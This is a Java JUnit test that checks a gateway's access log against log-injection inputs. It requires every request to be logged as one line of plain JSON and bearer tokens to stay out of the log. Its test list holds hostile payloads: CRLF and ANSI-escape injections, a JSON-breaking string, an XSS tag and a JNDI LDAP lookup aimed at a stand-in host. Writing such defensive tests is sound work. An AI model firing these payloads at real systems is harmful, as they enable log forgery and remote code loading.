package io.tapeloom.gateway;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.tapeloom.web.AccessLog;
import io.vertx.core.json.JsonObject;
import java.io.InputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/** Whatever a stranger sends, the access log is one JSON object a line, and names who it was. */
class LogInjectionTest {
  private static final List<String> EVIL =
      List.of(
          "%0d%0aGET%20/admin%20200",
          "%0a",
          "%0d",
          "%1b[31mred",
          "%1b]0;title%07",
          "%00",
          "%e2%80%a8",
          "%e2%80%ae",
          "\u001b[2J",
          "\t",
          "\"}{\"status\":200,\"x\":\"",
          "\\\"",
          "${jndi:ldap://evil.example/a}",
          "{}{}{}",
          "%d%n%msg",
          "<script>alert(1)</script>",
          "\u00ff\u00fe",
          "\u0085",
          "\u007f\u0001",
          "x".repeat(3_000));
  private static GatewayRig rig;
  private static Logger logger;
  private static final ListAppender<ILoggingEvent> LINES = new ListAppender<>();

  @BeforeAll
  static void start() throws Exception {
    rig = GatewayRig.with(new KnownGate());
    logger = (Logger) LoggerFactory.getLogger(AccessLog.FILE);
    LINES.start();
    logger.addAppender(LINES);
    logger.setLevel(Level.INFO);
  }

  @AfterAll
  static void stop() throws Exception {
    logger.setLevel(Level.OFF);
    logger.detachAppender(LINES);
    rig.close();
  }

  private static void send(String path, String headers) throws Exception {
    String request =
        "GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: close\r\n%s\r\n"
            .formatted(path, rig.port(), headers);
    try (Socket socket = new Socket("127.0.0.1", rig.port())) {
      socket.setSoTimeout(30_000);
      socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
      InputStream in = socket.getInputStream();
      byte[] answer = in.readAllBytes();
      assertTrue(answer.length > 0, path);
    }
  }

  private static List<String> lines(String marker, int count) throws InterruptedException {
    long until = System.nanoTime() + 30_000_000_000L;
    List<String> found = List.of();
    while (found.size() < count && System.nanoTime() < until) {
      Thread.sleep(10);
      found =
          new ArrayList<>(LINES.list)
              .stream()
                  .map(ILoggingEvent::getFormattedMessage)
                  .filter(line -> line.contains(marker))
                  .toList();
    }
    return found;
  }

  @Test
  void eachRequestIsOneLineOfPlainJson() throws Exception {
    assertEquals(20, EVIL.size());
    for (String evil : EVIL) {
      boolean inPath = evil.chars().allMatch(c -> c > ' ' && c < 0x7f);
      send(inPath ? "/api/marker/" + evil : "/api/marker/header", "User-Agent: a" + evil + "\r\n");
    }
    List<String> lines = lines("/api/marker/", 10);
    for (String line : lines) {
      assertTrue(line.chars().allMatch(c -> c >= ' ' && c < 0x7f), line);
      JsonObject json = new JsonObject(line);
      assertTrue(json.getString("path").startsWith("/api/marker/"), line);
      assertTrue(json.getInteger("status") >= 400, line);
      assertTrue(json.getString("agent").length() <= 200, line);
    }
    assertTrue(lines.size() >= 10, "answered and logged: " + lines.size());
  }

  @Test
  void aLineSaysWhoFromWhereWhatAndHowLongButNeverTheToken() throws Exception {
    String id = "request-of-this-test";
    send(
        "/api/v1/mode?symbol=QUERYSECRET",
        "Authorization: Bearer trader:7\r\nX-Request-Id: " + id + "\r\n");
    JsonObject line = new JsonObject(lines(id, 1).getFirst());
    assertEquals("user:7", line.getString("caller"));
    assertEquals("127.0.0.1", line.getString("address"));
    assertEquals("/api/v1/mode", line.getString("path"));
    assertEquals(400, line.getInteger("status"));
    assertTrue(line.getLong("micros") > 0 && line.getLong("bytes") > 0);
    assertFalse(line.encode().contains("SECRET") || line.encode().contains("trader:7"));
  }
}
